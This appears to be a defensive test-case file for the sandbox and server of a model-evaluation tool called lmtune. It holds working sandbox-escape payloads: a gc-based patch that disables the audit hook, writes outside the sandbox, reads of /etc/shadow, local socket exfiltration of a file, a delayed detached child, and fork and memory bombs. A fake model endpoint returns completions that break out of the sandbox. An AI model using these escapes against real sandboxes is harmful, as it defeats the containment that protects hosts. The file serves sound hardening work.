"""The cases of ``probe_28.py``: the sandbox attacks, a hostile endpoint for ``lmtune infer --task humaneval``, and
the requests and process signals sent to ``lmtune serve``."""

from __future__ import annotations

import contextlib
import http.client
import json
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

#: Ten lines that disable the old sandbox's audit hook: find it through gc and empty what its closure checks.
GC_HOOK_PATCH = """import gc
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") == "hook" and getattr(obj, "__closure__", None):
        for cell in obj.__closure__:
            value = cell.cell_contents
            if callable(value):
                cell.cell_contents = lambda *a, **k: True
            elif isinstance(value, (tuple, set, frozenset)):
                cell.cell_contents = type(value)()
"""

#: name -> {"program" (format fields OUT, MARKER, PORT, SOCK), "timeout", "listen", "wait_after", "show_stderr"}
SANDBOX_ATTACKS = {
    "gc: patch the audit hook, then write outside": {"program": GC_HOOK_PATCH + "open('{OUT}/escaped', 'w')"},
    "after the bypass: a subprocess writes outside": {"program": GC_HOOK_PATCH + (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"open('{OUT}/sub', 'w')\"], check=True)")},
    "after the bypass: ctypes' libc open writes outside": {"program": GC_HOOK_PATCH + (
        "import ctypes, os\nassert ctypes.CDLL(None).open(b'{OUT}/ctypes', os.O_WRONLY | os.O_CREAT, 0o666) >= 0")},
    "after the bypass: send a file to a Unix socket of the host": {"listen": "unix", "program": GC_HOOK_PATCH + (
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{SOCK}')\n"
        "s.sendall(b'stolen: ' + open('/etc/hostname', 'rb').read())")},
    "after the bypass: TCP to a port of the host": {"listen": "tcp", "program": GC_HOOK_PATCH + (
        "import socket\nsocket.create_connection(('127.0.0.1', {PORT}), timeout=2).sendall(b'stolen')")},
    "after the bypass: 30 forked children": {"show_stderr": True, "program": GC_HOOK_PATCH + (
        "import os, sys, time\nn = 0\nfor _ in range(30):\n    try:\n        pid = os.fork()\n    except OSError:\n"
        "        break\n    if pid == 0:\n        time.sleep(4)\n        os._exit(0)\n    n += 1\n"
        "print('children:', n, file=sys.stderr)")},
    "after the bypass: a setsid child writes a file 8 s later (run_code(timeout=3))": {
        "timeout": 3, "wait_after": 9, "program": GC_HOOK_PATCH + (
            "import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n    os.execv(sys.executable, [sys.executable, "
            "'-c', \"import time; time.sleep(8); open('{OUT}/late', 'w')\", '{MARKER}'])\ntime.sleep(30)")},
    "os.mkfifo outside": {"program": "import os\nos.mkfifo('{OUT}/fifo')"},
    "sqlite3.connect(<outside path>)": {"program": (
        "import sqlite3\nsqlite3.connect('{OUT}/evil.db').execute('create table t (x)').connection.commit()")},
    "patched os.path.realpath and builtins.isinstance, then write outside": {"program": (
        "import builtins, os\nos.path.realpath = lambda p, **k: os.getcwd()\nbuiltins.isinstance = lambda *a: True\n"
        "open('{OUT}/patched', 'w')")},
    "read /etc/shadow": {"show_stderr": True, "program": "print(len(open('/etc/shadow').read()))"},
    "memory bomb (2 GiB)": {"show_stderr": True, "program": "x = bytearray(2 * 1024 ** 3)"},
    "file-size bomb (100 MB in its folder)": {"show_stderr": True, "program": (
        "open('big', 'wb').write(b'x' * (100 * 1024 ** 2))")},
    "fork bomb": {"timeout": 3, "program": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")},
    "CPU spin (timeout 3 s)": {"timeout": 3, "program": "while True:\n    pass"},
}


@contextlib.contextmanager
def hostile_endpoint(target: Path) -> Iterator[str]:
    """An OpenAI-compatible endpoint on 127.0.0.1 whose completions create a database at ``target``."""
    body = (f"    import sqlite3\n    sqlite3.connect({str(target)!r}).execute('create table t (x)')"
            ".connection.commit()\n    return None\n")

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def _json(self, value: dict) -> None:
            data = json.dumps(value).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):  # noqa: N802  (http.server's spelling)
            self._json({"object": "list", "data": [{"id": "arith-lm", "object": "model"}]})

        def do_POST(self):  # noqa: N802
            asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            choices = [{"index": i, "text": body, "finish_reason": "stop"} for i in range(int(asked.get("n") or 1))]
            self._json({"id": "x", "object": "text_completion", "created": 0, "model": asked["model"],
                        "choices": choices, "usage": {"prompt_tokens": 10, "completion_tokens": 10,
                                                      "total_tokens": 20}})

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()


def e2e_humaneval(folder: Path, env: dict[str, str]) -> str:
    folder.mkdir()
    target = folder / "host" / "evil.db"
    target.parent.mkdir()
    target.parent.chmod(0o777)
    with hostile_endpoint(target) as url:
        done = subprocess.run([sys.executable, "-m", "lmtune.cli", "infer", "--endpoint", url, "--models", "arith-lm",
                               "--task", "humaneval", "--inference-budget", "10", "--optimization-budget", "3",
                               "--max-trials", "1", "--n", "1,1", "--max-tokens", "64,64", "--retries", "0",
                               "--no-test-pareto", "--storage", "sqlite:///s.db", "--output-dir", "out"],
                              cwd=folder, env=env, capture_output=True, text=True, timeout=600)
    return f"exit {done.returncode}; database outside {'created' if target.exists() else 'not created'}"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def served(env: dict[str, str], model: str, *extra: str) -> Iterator[tuple[str, subprocess.Popen]]:
    """``lmtune serve --model MODEL`` of that tree on a free port, until the block ends."""
    port = free_port()
    process = subprocess.Popen([sys.executable, "-m", "lmtune.cli", "serve", "--model", model, "--port", str(port),
                                *extra], env=env, cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}/v1"
    try:
        deadline = time.time() + 180
        while process.poll() is None and time.time() < deadline:
            with contextlib.suppress(OSError):
                urllib.request.urlopen(url + "/models", timeout=5).close()
                break
            time.sleep(0.3)
        yield url, process
    finally:
        if process.poll() is None:
            process.kill()
        process.wait()


def post(url: str, body: dict | bytes, path: str = "/completions", timeout: float = 60) -> str:
    """The status of the answer and its error message or its choices' texts and finish reasons."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    request = urllib.request.Request(url + path, data=data, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as reply:
            status, text = reply.status, reply.read()
    except urllib.error.HTTPError as error:
        status, text = error.code, error.read()
    except (TimeoutError, OSError) as error:
        return f"no answer ({type(error).__name__})"
    try:
        answer = json.loads(text)
    except ValueError:
        return f"{status} `{text.decode(errors='replace')[:60]}`"
    if "error" in answer:
        return f"{status} `{str(answer['error'].get('message'))[:90]}`"
    choices = answer.get("choices", [])
    return f"{status} " + ", ".join(f"`{(c.get('text') or c.get('message', {}).get('content') or '')[:20]!s}` "
                                    f"{c.get('finish_reason')}" for c in choices[:2])


BASE = {"model": "arith-lm", "prompt": "12+34=", "max_tokens": 4}
CHAT = {"model": "arith-lm", "messages": [{"content": "12+34="}], "max_tokens": 4}
REQUESTS = {
    "a chat message without `role`": ("/chat/completions", CHAT),
    "`stop: [1, 2]`": ("/completions", {**BASE, "stop": [1, 2]}),
    "an empty prompt": ("/completions", {**BASE, "prompt": ""}),
    "temperature NaN": ("/completions", {**BASE, "temperature": float("nan")}),
    "temperature -1": ("/completions", {**BASE, "temperature": -1}),
    "temperature 1e308": ("/completions", {**BASE, "temperature": 1e308}),
    "top_p 5": ("/completions", {**BASE, "top_p": 5}),
    "top_p -1": ("/completions", {**BASE, "top_p": -1}),
    "seed -1": ("/completions", {**BASE, "seed": -1}),
    "seed 2**70": ("/completions", {**BASE, "seed": 2**70}),
    "n = 2.7": ("/completions", {**BASE, "n": 2.7}),
    "`json_object` on arith-lm": ("/completions", {**BASE, "response_format": {"type": "json_object"}}),
    "an integer schema on arith-lm": ("/completions", {**BASE, "response_format": {
        "type": "json_schema", "json_schema": {"name": "n", "schema": {"type": "integer"}}}}),
    "a schema nested 3,000 deep": ("/completions", (
        '{"model": "arith-lm", "prompt": "1", "response_format": {"type": "json_schema", "json_schema": {"name": "n", '
        '"schema": ' + '{"type": "array", "items": ' * 3000 + "{}" + "}" * 3000 + "}}}").encode()),
    # last: the old server decodes these for minutes, and every later request would wait behind them
    "a prompt of 9,000 tokens": ("/completions", {**BASE, "prompt": "1" * 9000}),
    "n = 100000": ("/completions", {**BASE, "n": 100000}),
    "max_tokens 10**9": ("/completions", {**BASE, "max_tokens": 10**9}),
}


def serve_requests(env: dict[str, str]) -> dict[str, str]:
    out = {}
    with served(env, "arith-lm") as (url, _):
        for name, (path, body) in REQUESTS.items():
            out[name] = post(url, body, path)
        out["a 30 MB body (Content-Length sent, then 1 KB)"] = _big_body(url)
    with served(env, "hag-lm") as (url, _):
        out["`json_object` on hag-lm"] = post(url, {"model": "hag-lm", "prompt": "r:abc>", "max_tokens": 30,
                                                    "temperature": 1.0, "seed": 0,
                                                    "response_format": {"type": "json_object"}})
    with served(env, "agent-lm") as (url, _):
        schema = {"type": "object", "properties": {"child": {"$ref": "#"}}, "required": ["child"]}
        out["a recursive schema on agent-lm"] = post(url, {
            "model": "agent-lm", "messages": [{"role": "user", "content": "{"}], "max_tokens": 40, "temperature": 1.0,
            "seed": 0, "response_format": {"type": "json_schema", "json_schema": {"name": "r", "schema": schema}}},
            "/chat/completions")
    return out


def _big_body(url: str) -> str:
    host, port = url.removeprefix("http://").removesuffix("/v1").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=15)
    try:
        connection.putrequest("POST", "/v1/completions")
        connection.putheader("Content-Type", "application/json")
        connection.putheader("Content-Length", str(30 * 1024 * 1024))
        connection.endheaders()
        connection.send(b'{"model": "arith-lm", "prompt": "' + b"1" * 1000)
        return f"{connection.getresponse().status}"
    except (TimeoutError, OSError) as error:
        return f"no answer in 15 s ({type(error).__name__})"
    finally:
        connection.close()


def serve_process_cases(env: dict[str, str]) -> dict[str, str]:
    out = {}
    with served(env, "agent-lm") as (url, process):
        long = {"model": "agent-lm", "prompt": "once", "max_tokens": 4096, "n": 32, "temperature": 1.0}
        threading.Thread(target=post, args=(url, long), kwargs={"timeout": 120}, daemon=True).start()
        time.sleep(2.0)
        started = time.monotonic()
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(timeout=60)
            out["SIGTERM during a long generation"] = f"exited after {time.monotonic() - started:.1f} s"
        except subprocess.TimeoutExpired:
            out["SIGTERM during a long generation"] = "still running 60 s later"
    for name, args in (("`--host ''`", ["--host", ""]), ("`--host 'not an address!'`", ["--host", "not an address!"])):
        out[name] = _short_run(env, ["--port", str(free_port()), *args])
    with socket.create_server(("127.0.0.1", 0)) as taken:
        out["a port in use"] = _short_run(env, ["--port", str(taken.getsockname()[1])])
    return out


def _short_run(env: dict[str, str], args: list[str]) -> str:
    try:
        done = subprocess.run([sys.executable, "-m", "lmtune.cli", "serve", *args], env=env, cwd="/",
                              capture_output=True, text=True, timeout=40)
    except subprocess.TimeoutExpired:
        return "still serving after 40 s"
    return f"exit {done.returncode}: `{(done.stderr.strip().splitlines() or [''])[-1][:120]}`"
